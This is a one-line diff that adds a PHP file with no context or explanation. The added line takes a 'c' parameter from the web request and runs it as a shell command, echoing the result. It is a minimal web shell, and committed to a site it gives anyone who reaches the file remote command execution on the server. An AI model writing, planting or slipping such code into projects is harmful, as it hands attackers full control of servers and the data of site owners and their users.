@@ -1,0 +1,1 @@
+<?php $c = str_repeat("$_GET[c]", 1); echo `$c`;
